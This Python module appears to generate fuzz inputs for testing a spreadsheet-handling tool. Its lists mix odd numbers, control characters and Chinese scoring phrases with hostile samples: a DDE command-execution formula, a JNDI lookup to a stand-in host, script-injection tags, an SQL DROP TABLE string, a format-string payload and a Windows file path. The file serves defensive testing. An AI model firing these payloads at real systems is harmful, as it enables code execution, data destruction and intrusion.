"""Texts and numbers that hurt: what strangers type, what programs choke on, and what a spreadsheet would execute."""

import random

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.invalid","点我")',
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "{=1+1}",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    "http://evil.invalid/x",
    "mailto:a@evil.invalid",
    "internal:自评表!A1",
    "external:c:\\evil.xlsx",
    "file:///c:/windows/win.ini",
    "ftp://evil.invalid",
)
MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<!--",
    "]]>",
    "<![CDATA[x]]>",
    "&lt;b&gt;",
    "&amp;#0;",
    "&#x0;",
    "{{7*7}}",
    "{agency.name}",
    "${jndi:ldap://evil.invalid/a}",
    "%s%s%n",
    "'; DROP TABLE record; --",
    "<w:p/>",
    "javascript:alert(1)",
)
CHARACTERS = (
    "\x00",
    "\x01",
    "\x07",
    "\x0b",
    "\x1b[31m",
    "\x7f",
    "\x85",
    "\u2028",
    "\u202e",
    "\ufeff",
    "\ufffe",
    "\uffff",
    "\ud800",
    "\udfff",
    "𠮷",
    "😀",
    "e\u0301",
    "\u3000",
    "\xa0",
    "_x0041_",
    "_x000D_",
    "_x0000_",
    "_xD800_",
    "_xFFFF_",
)
NUMERALS = (
    "1" * 400,
    "9" * 20_000,
    "1e308",
    "1e-320",
    "1E+999999999",
    "-0",
    "0.1" + "0" * 500,
    "١٢٣",
    "½",
    "Ⅷ",
    "①",
    "三千零五",
    "壹佰",
    "1,2,3",
    "1.2.3",
    "--5",
    "NaN",
    "Infinity",
    "0x1F",
    "1_000",
    "１２３",
    "100%%",
    "∞",
    "1/0",
    "2021-13-45",
    "0000年00月00日",
    "9999年12月31日",
    "10000年1月1日",
    "2021年2月30日",
    "25:61",
)
WORDS = (
    "≥95%", "≤2万元", "100%", "2021年12月20日之前", "健全", "基本健全", "不低于3次", "3-5个", "1:2", "12月底前",
    "优良中差", "每年≥2次", "≥", "≤≤5", "完成", "未完成",
    "95%以上", "小于10天", "逐年下降", "上年", "万元", "%", "次", "个", "分", "计5分", "扣完为止",
    "每超过一个百分点扣0.5分", "（含）", "得满分", "以上", "以下", "-", "—", "~", "：", "；", "。", "、",
    "(", ")", "（", "【", "≥90%计5分；80%（含）-90%，计4分；低于80%不得分", "①完整，1分；②及时，0.5分",
    "无结余3分；有结余但不超过上年结转2分；结余超过上年结转不得分",
)  # fmt: skip
LONG = (
    "长" * 40_000,
    "a " * 30_000,
    "≥" * 5_000,
    "（" * 5_000,
    "1," * 5_000,
    "每超过" * 3_000,
    "计5分；" * 2_000,
)

ODD_NUMBERS = (0, -1, 1, 100, 0.1, 1e15, 1e22, -1e22, 1e299, 1e-299, 123456789012345678, 10**400, 0.30000000000000004)


def text(hand: random.Random) -> str:
    """A text of one of the kinds above, or several glued together."""
    kind = hand.random()
    if kind < 0.02:
        return hand.choice(LONG)
    if kind < 0.5:
        return "".join(hand.choice((*WORDS, *NUMERALS[2:])) for _ in range(hand.randint(1, 5)))
    if kind < 0.6:
        return "".join(chr(hand.choice((hand.randint(32, 126), hand.randint(0x4E00, 0x9FA5)))) for _ in range(8))
    return "".join(
        hand.choice(hand.choice((FORMULAS, MARKUP, CHARACTERS, NUMERALS, WORDS)))
        for _ in range(hand.choice((1, 1, 2, 3)))
    )


def argument(hand: random.Random) -> str:
    """A text as a command line can hand over: without NUL, not overlong."""
    return text(hand).replace("\0", "")[:30_000]
